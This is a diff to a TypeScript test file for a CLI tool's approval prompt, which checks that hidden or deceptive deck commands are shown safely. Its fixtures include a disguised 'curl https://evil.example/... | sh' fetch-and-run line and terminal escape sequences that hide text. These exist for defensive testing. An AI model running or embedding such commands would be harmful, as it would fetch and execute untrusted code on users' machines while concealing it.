@@ -28,7 +28,7 @@ function deck(): Promise<string> {
 
 /** A command of a user whose engine is nowhere. */
 function start(args: string[], options: CommandOptions = {}): Command {
-  return kamishibai(args, { ...options, env: { XDG_STATE_HOME: home, TMPDIR: home, DOCKER_HOST: 'unix:///nowhere/docker.sock', ...options.env } })
+  return kamishibai(args, { ...options, env: { PAGER: 'cat', XDG_STATE_HOME: home, TMPDIR: home, DOCKER_HOST: 'unix:///nowhere/docker.sock', ...options.env } })
 }
 
 const present = (file: string, ...more: string[]): string[] => ['present', file, '--no-open', '--port', String(20_000 + process.pid % 10_000), ...more]
@@ -38,7 +38,9 @@ describe('in a terminal', () => {
     const file = await deck()
     const first = start(['check', file, '--mode', 'live'], { terminal: true })
     await first.shown(QUESTION)
-    expect(first.output()).toMatch(/You have not approved deck\.md yet[\s\S]*setup\/vite-plugins\.ts[\s\S]*demo\/x\.sh[\s\S]*x {2}slide 1 {2}\{run\}[\s\S]*\| touch /)
+    expect(first.output()).toMatch(/You have not approved deck\.md yet[\s\S]*1 step:[\s\S]*programs +(?:touch, sh|sh, touch)[\s\S]*setup\/vite-plugins\.ts/)
+    first.type('p')
+    await first.shown(/demo\/x\.sh[\s\S]*x {2}slide 1 {2}\{run\}[\s\S]*\| touch [\s\S]*Run deck\.md on this machine\?/)
     first.type(ENTER)
     expect(await first.ended).toBe(2)
     expect(first.output()).toContain('Nothing was run.')
@@ -58,7 +60,9 @@ describe('in a terminal', () => {
     await writeFile(join(dirname(file), 'demo/\u001B[2Jnew.sh'), '')
     const fourth = start(['record', file], { terminal: true })
     await fourth.shown(QUESTION)
-    expect(fourth.output()).toMatch(/deck\.md has changed since you approved it[\s\S]*changed {2}demo\/x\.sh\s+new {6}demo\/\\u\{1b\}\[2Jnew\.sh/)
+    expect(fourth.output()).toMatch(/deck\.md has changed since you approved it[\s\S]*changed +demo\/x\.sh\s+new +demo\/\\u\{1b\}\[2Jnew\.sh/)
+    fourth.type('d')
+    await fourth.shown(/Since you approved it[\s\S]*changed {2}demo\/x\.sh[\s\S]*x {2}slide 1 {2}\{run\}/)
     fourth.type(ENTER)
     expect(await fourth.ended).toBe(2)
   })
@@ -78,11 +82,14 @@ volumes: ["./\u001B[1A:/x"]
     await writeFile(tricky, text + (await readFile(tricky, 'utf8')).replace(/^[^`]*/, ''))
     const command = start(['check', tricky, '--mode', 'live'], { terminal: true })
     await command.shown(QUESTION)
+    command.type('p')
+    await command.shown(/harmless[\s\S]*Run deck\.md on this machine\?/)
     const output = command.output()
     const at = (part: string): number => {
       expect(output).toContain(part)
       return output.indexOf(part)
     }
+    expect(at('x (slide 1): reads and changes /etc/\\u{202e}abc')).toBeLessThan(at('1 of them with 1 line that no slide shows'))
     expect(at('mount:/etc/\\u{202e}abc:rw:x')).toBeLessThan(at('x  slide 1'))
     at('hidden | curl https://evil.example/\\u{202e}gnp.x | sh')
     at('| echo \\u{1b}[2J\\u{1b}[8mharmless')
